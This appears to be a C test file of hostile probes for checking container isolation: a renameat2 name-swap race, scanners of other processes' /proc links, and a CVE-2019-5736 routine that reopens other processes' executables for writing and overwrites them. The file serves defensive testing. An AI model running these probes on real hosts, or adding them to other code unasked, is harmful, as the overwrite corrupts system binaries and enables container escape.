/* tests/probe/hostile.c - programs that a container's neighbour or owner might run
 * to get out: races, and looking at what other processes have open. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "tests/probe/probe.h"

/* probe swap A B SECONDS: exchange two names as fast as possible. */
int cmd_swap(int argc, char **argv)
{
	time_t end = argc > 3 ? time(NULL) + (time_t)number(argv[3]) : 0;

	if (argc < 4)
		return 99;
	while (time(NULL) < end)
		for (int i = 0; i < 256; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
				    2 /* EXCHANGE */) < 0)
				die("exchange");
	return 0;
}

/* probe links PID...: what the magic links of each process lead to. */
int cmd_links(int argc, char **argv)
{
	static const char *const name[] = { "exe", "cwd", "root" };
	char file[64];

	facts_flat();
	for (int a = 1; a < argc; a++) {
		open_object(argv[a]);
		for (size_t i = 0; i < COUNT(name); i++) {
			snprintf(file, sizeof(file), "/proc/%s/%s", argv[a], name[i]);
			fact(name[i], link_of(file));
		}
		fds_of(argv[a]);
		close_object();
	}
	return 0;
}

/* probe watch SECONDS: every link of every other process, as often as possible:
 * what a process shows for a moment only is seen too. Each is printed once. */
int cmd_watch(int argc, char **argv)
{
	static const char *const name[] = { "exe", "cwd", "root" };
	time_t end = time(NULL) + (time_t)number(argc > 1 ? argv[1] : "2");
	static char seen[1024][256];
	size_t nseen = 0;

	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)) != NULL) {
			char file[400];
			const char *where[64];
			size_t n = 0;
			DIR *fds;
			struct dirent *f;
			static char number_of[64][32];

			if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			for (size_t i = 0; i < COUNT(name); i++)
				where[n++] = name[i];
			snprintf(file, sizeof(file), "/proc/%.16s/fd", e->d_name);
			fds = opendir(file);
			while (fds && (f = readdir(fds)) != NULL && n < COUNT(where)) {
				if (f->d_name[0] == '.')
					continue;
				snprintf(number_of[n], sizeof(number_of[n]), "fd/%.16s", f->d_name);
				where[n] = number_of[n];
				n++;
			}
			if (fds)
				closedir(fds);
			for (size_t i = 0; i < n; i++) {
				char line[256], target[200];
				ssize_t len;
				size_t k = 0;

				snprintf(file, sizeof(file), "/proc/%.16s/%s", e->d_name, where[i]);
				len = readlink(file, target, sizeof(target) - 1);
				if (len < 0)
					continue;
				target[len] = 0;
				snprintf(line, sizeof(line), "%.2s %s", where[i], target);
				while (k < nseen && strcmp(seen[k], line) != 0)
					k++;
				if (k == nseen && nseen < COUNT(seen)) {
					strcpy(seen[nseen++], line);
					puts(line);
				}
			}
		}
		if (d)
			closedir(d);
	}
	puts("watched");
	return 0;
}

/* probe overwrite SECONDS [WORD]: CVE-2019-5736. Hold every other process's
 * executable open for reading, and try to open it again for writing, until time is
 * up. Says "WROTE link" for each that let itself be opened and is not our own; with
 * WORD only those whose link has it in its name are touched. */
int cmd_overwrite(int argc, char **argv)
{
	time_t end = time(NULL) + (time_t)number(argc > 1 ? argv[1] : "2");
	struct stat own, st;
	const char *word = argc > 2 ? argv[2] : NULL;
	unsigned long seen = 0;
	int held[256];
	size_t nheld = 0;

	if (stat("/proc/self/exe", &own) < 0)
		die("self");
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		char file[64];

		while (d && (e = readdir(d)) != NULL) {
			int fd;

			if (e->d_name[0] < '0' || e->d_name[0] > '9')
				continue;
			snprintf(file, sizeof(file), "/proc/%.16s/exe", e->d_name);
			fd = open(file, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &st) == 0 &&
			    (st.st_dev != own.st_dev || st.st_ino != own.st_ino) &&
			    nheld < COUNT(held)) {
				held[nheld++] = fd;
				seen++;
			} else {
				close(fd);
			}
		}
		if (d)
			closedir(d);
		for (size_t i = 0; i < nheld; i++) {
			int fd;

			snprintf(file, sizeof(file), "/proc/self/fd/%d", held[i]);
			fd = word && !strstr(link_of(file), word) ?
				     -1 :
				     open(file, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				printf("WROTE %s\n", link_of(file));
				if (write(fd, "#!/bin/false\n", 13) < 0)
					printf("(not really: %s)\n", errno_name(errno));
				close(fd);
			}
		}
		if (nheld == COUNT(held))
			while (nheld)
				close(held[--nheld]);
	}
	printf("held %lu\n", seen);
	return 0;
}
